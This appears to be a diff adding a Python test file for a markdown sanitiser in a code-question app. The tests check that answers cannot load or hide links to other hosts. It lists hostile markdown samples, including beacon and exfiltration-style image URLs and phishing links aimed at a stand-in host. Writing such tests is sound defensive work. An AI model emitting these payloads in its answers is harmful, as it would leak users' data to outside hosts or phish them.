@@ -1,0 +1,102 @@
+"""``codeqa.answer.render``: markdown shown in the app can never load or hide a link to another host, repository text
+embeds as text, and ordinary answers are left exactly as they were (checked with a CommonMark parser)."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from codeqa.answer.render import code_fence, code_span, escape_markdown, remote_references, safe_markdown
+
+PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+HOSTILE = [
+    "Look ![x](http://evil.example/beacon?user=me) here",
+    '![a [b] c](http://evil.example/x.png "title")',
+    "[![img](http://evil.example/i.png)](http://evil.example/link)",
+    "[ref]: http://evil.example/ref.png\n\n![ref] and ![alt][ref] and [ref]",
+    '<img src="http://evil.example/z"> and <a href="http://evil.example">x</a>',
+    "| a | b |\n|---|---|\n| ![i](http://evil.example/x) | y |",
+    "![x](<http://evil.example/a b.png>)",
+    "![x](http:\\\\evil.example\\p.png)",
+    "# Title ![h](http://evil.example/h.png)",
+    "- ![x](//evil.example/p.png)\n  - [phish](https://evil.example/login)",
+    "> quoted ![q](http://evil.example/q.png)",
+    "Setext ![s](http://evil.example/s.png)\n===",
+    "[text](http://evil.example/a) [local](http://127.0.0.1:8501/x) [rel](shop/auth.py)",
+    "![data](data:image/png;base64,iVBORw0KGgo=)",
+    "<http://evil.example/autolink>",
+]
+ORDINARY = [
+    "The login is checked in `shop/auth.py:8-20` [1].\n\n```rust\nlet v = vec![1, 2];\n```",
+    "1. **`track_user`** (function) — [`a.py:1-2`](https://github.com/o/r/blob/abc/a.py#L1-L2)\n   Tracks users.",
+    "| file | why |\n|---|---|\n| `a.py` | config <br> loader |",
+    "See [the docs](docs/setup.md) or [this line](#setup), and http://127.0.0.1:8501/Chat.",
+    "Inline code `![x](y)` and a fence:\n\n~~~md\n![diagram](http://example.com/d.png)\n~~~",
+]
+
+
+def outside(markdown: str) -> list[str]:
+    return remote_references(markdown, ["github.com"])
+
+
+@pytest.mark.parametrize("markdown", HOSTILE)
+def test_hostile_markdown_loads_and_hides_nothing(markdown: str) -> None:
+    assert outside(markdown), "the case really is hostile"
+    safe = safe_markdown(markdown, ["github.com"])
+    assert outside(safe) == []
+    if "![" in markdown and "data:" not in markdown:
+        assert "image:" in safe  # the reader is told an image was there, and from where
+    if "evil.example" in markdown:
+        assert "evil.example" in safe  # the host stays visible
+
+
+@pytest.mark.parametrize("markdown", ORDINARY)
+def test_ordinary_answers_are_unchanged(markdown: str) -> None:
+    assert safe_markdown(markdown, ["github.com"]) == markdown
+
+
+def test_links_say_where_they_go() -> None:
+    assert safe_markdown("[the dashboard](http://evil.example/phish)") == "the dashboard (evil.example)"
+    assert safe_markdown("![](http://evil.example/exfil?d=Y29kZQ==)") == "\\[image: no description — evil.example\\]"
+
+
+def _inline_children(markdown: str) -> list:
+    tokens = PARSER.parse(markdown)
+    assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], markdown
+    return tokens[1].children
+
+
+printable = st.text(st.characters(blacklist_categories=("Cs", "Cc")), min_size=1, max_size=60)
+
+
+@settings(max_examples=300, deadline=None)
+@given(printable.filter(lambda s: s.strip()))
+def test_escaped_text_reads_back_as_the_same_text(text: str) -> None:
+    children = _inline_children(escape_markdown(text))
+    assert [child.type for child in children] == ["text"] * len(children)
+    assert "".join(child.content for child in children) == " ".join(text.split())
+
+
+@settings(max_examples=300, deadline=None)
+@given(printable.filter(lambda s: s.strip()))
+def test_code_span_holds_any_text(text: str) -> None:
+    children = _inline_children(code_span(text))
+    assert [child.type for child in children] == ["code_inline"]
+    assert children[0].content.strip() == " ".join(text.split()).strip()
+
+
+PIECES = ["![", "[", "]", "(", ")", "<", ">", "`", "\n", " ", "http://e.example/x", "x", "]: ", "\\", "!", "img src=",
+          "  - ", "> ", "|", "\n\n", '"t"']  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(PIECES), max_size=30))
+def test_no_arrangement_of_markdown_loads_anything(parts: list[str]) -> None:
+    markdown = "".join(parts)
+    assert outside(safe_markdown(markdown)) == []
+
+
+def test_code_fence_is_longer_than_any_run_inside() -> None:
+    assert code_fence("x") == "```" and code_fence("a ```` b") == "`````"
